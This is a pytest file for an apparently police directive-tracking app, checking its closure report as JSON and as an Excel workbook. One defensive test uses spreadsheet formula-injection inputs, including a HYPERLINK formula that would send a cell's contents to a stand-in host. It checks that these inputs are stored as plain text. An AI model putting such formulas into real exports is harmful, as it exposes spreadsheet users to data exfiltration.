"""The closure report (办结报告): written when the directive closes, served as JSON and as a workbook that
openpyxl reads back — each recipient's times, reports, returns (reasons and count) and late steps."""

import io
from datetime import UTC, datetime, timedelta

import time_machine
from django.utils import timezone
from openpyxl import load_workbook

from command_center import clocks
from intel import services
from intel.models import ClosureReport

from .conftest import answers, api_as, issue, task_of, walk_to_reported


def close_with_a_return_and_a_late_step(world):
    """A1 signs late (the red 10-minute clock breaks), reports, is returned once, reports again; B1 is on
    time. Both approved: the directive closes."""
    start = timezone.now()
    with time_machine.travel(start, tick=False):
        d = issue(world, world.station_a1, world.station_b1, colour="red", title="湖滨商圈安保")
    a1, b1 = task_of(d, world.station_a1), task_of(d, world.station_b1)
    with time_machine.travel(start + timedelta(minutes=5), tick=False):
        services.task_sign(task_id=b1.pk, actor=world.station_b1_officer)
    clocks.sweep(now=start + timedelta(minutes=11))
    with time_machine.travel(start + timedelta(minutes=12), tick=False):
        walk_to_reported(world, a1)
        services.task_return(task_id=a1.pk, actor=world.supervisor, reason="缺少警力部署表")
        services.task_start(task_id=a1.pk, actor=world.station_a1_officer)
        a1.refresh_from_db()
        services.task_report(task_id=a1.pk, actor=world.station_a1_officer, text="补报部署表", checklist=answers(a1))
        services.task_approve(task_id=a1.pk, actor=world.supervisor)
        services.task_start(task_id=b1.pk, actor=world.station_b1_officer)
        services.task_report(task_id=b1.pk, actor=world.station_b1_officer, text="已落实", checklist=answers(b1))
    with time_machine.travel(start + timedelta(minutes=13), tick=False):
        services.task_approve(task_id=b1.pk, actor=world.supervisor)
    return d, start


def test_the_closure_report_as_json(coded):
    d, _start = close_with_a_return_and_a_late_step(coded)
    report = ClosureReport.objects.get(directive=d)
    r = api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/")
    assert r.status_code == 200
    data = r.json()
    assert data == report.data and data["final"] is True
    assert data["directive"]["title"] == "湖滨商圈安保" and data["directive"]["state"] == "closed"
    assert data["summary"] == {"recipients": 2, "approved": 2, "returns": 1, "overdue_steps": 1, "on_time": 1}
    a1, b1 = data["recipients"]
    assert (a1["org_name"], b1["org_name"]) == ("东湖派出所", "西溪派出所")
    assert a1["rework_count"] == 1
    assert [x["reason"] for x in a1["returns"]] == ["缺少警力部署表"]
    assert [x["text"] for x in a1["reports"]] == ["已落实", "补报部署表"]
    assert [x["decision"] for x in a1["reports"]] == ["returned", "approved"]
    assert [(o["kind"], bool(o["met_at"])) for o in a1["overdue"]] == [("intel.task.sign", True)]
    assert b1["overdue"] == [] and b1["returns"] == []
    for key in ("issued_at", "signed_at", "reported_at", "approved_at"):
        assert a1[key] and b1[key], key
    assert a1["signed_at"] > a1["sign_due_at"]


def test_the_closure_report_as_a_workbook(coded):
    d, _ = close_with_a_return_and_a_late_step(coded)
    r = api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "xlsx"})
    assert r.status_code == 200
    assert r["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r["Content-Disposition"] == f'attachment; filename="directive-{d.pk}-closure.xlsx"'
    wb = load_workbook(io.BytesIO(r.content))
    summary, reports, late = wb.worksheets
    rows = [[c for c in row] for row in summary.iter_rows(values_only=True)]
    assert rows[0][0] == "办结报告"
    assert list(rows[1][:2]) == ["指令", "湖滨商圈安保"]
    header = next(i for i, row in enumerate(rows) if row[0] == "接收单位")
    a1, b1 = rows[header + 1], rows[header + 2]
    assert a1[0] == "东湖派出所" and a1[6] == 1 and a1[7] == "缺少警力部署表" and a1[9] == "补报部署表"
    assert b1[0] == "西溪派出所" and b1[6] == 0
    assert all(a1[2:6]) and all(b1[2:6])  # issued, signed, reported, approved
    assert [row[3] for row in reports.iter_rows(min_row=2, values_only=True)] == ["已落实", "补报部署表", "已落实"]
    late_rows = list(late.iter_rows(min_row=2, values_only=True))
    assert len(late_rows) == 1 and late_rows[0][0] == "东湖派出所" and late_rows[0][1] == "签收指令"


def test_a_preview_before_closing_and_scope(coded):
    d = issue(coded, coded.station_a1)
    r = api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/")
    assert r.status_code == 200 and r.json()["final"] is False and r.json()["summary"]["approved"] == 0
    assert api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "xlsx"}).status_code == 200
    assert api_as(coded.station_b1_officer).get(f"/api/directives/{d.pk}/report/").status_code == 404
    assert api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "pdf"}).status_code == 404


def test_the_workbook_writes_report_text_as_text_and_times_in_shanghai_time(coded, settings):
    """Everything people typed (title, actions, reports, reasons) reads back as the exact text in a string
    cell, never a formula; times are Asia/Shanghai with the offset."""
    settings.TIME_ZONE = "Asia/Shanghai"
    settings.LANGUAGE_CODE = "zh-hans"
    with time_machine.travel(datetime(2026, 12, 6, 12, 0, tzinfo=UTC), tick=False):
        d = issue(coded, coded.station_a1, title='=HYPERLINK("http://x/?p="&B3,"详情")', actions=["@巡逻"])
        a1 = walk_to_reported(coded, task_of(d, coded.station_a1))
        services.task_return(task_id=a1.pk, actor=coded.supervisor, reason="+1")
        services.task_start(task_id=a1.pk, actor=coded.station_a1_officer)
        a1.refresh_from_db()
        services.task_report(task_id=a1.pk, actor=coded.station_a1_officer, text="=1+1", checklist=answers(a1))
    r = api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "xlsx"})
    summary, reports, _late = load_workbook(io.BytesIO(r.content)).worksheets
    cells = [c for ws in (summary, reports) for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    rows = [list(row) for row in summary.iter_rows()]
    assert (rows[1][1].value, rows[1][1].data_type) == ('=HYPERLINK("http://x/?p="&B3,"详情")', "s")
    assert rows[5][1].value == "2026-12-06 20:00:00 +08:00"  # issued at
    a1_row = rows[next(i for i, row in enumerate(rows) if row[0].value == "接收单位") + 1]
    assert (a1_row[7].value, a1_row[7].data_type) == ("+1", "s")  # the return's reason
    assert (a1_row[9].value, a1_row[9].data_type) == ("=1+1", "s")  # the last report
    assert a1_row[2].value == "2026-12-06 20:00:00 +08:00"
    texts = [(row[3].value, row[3].data_type, row[4].value) for row in reports.iter_rows(min_row=2)]
    assert texts == [("已落实", "s", "✓ @巡逻"), ("=1+1", "s", "✓ @巡逻")]
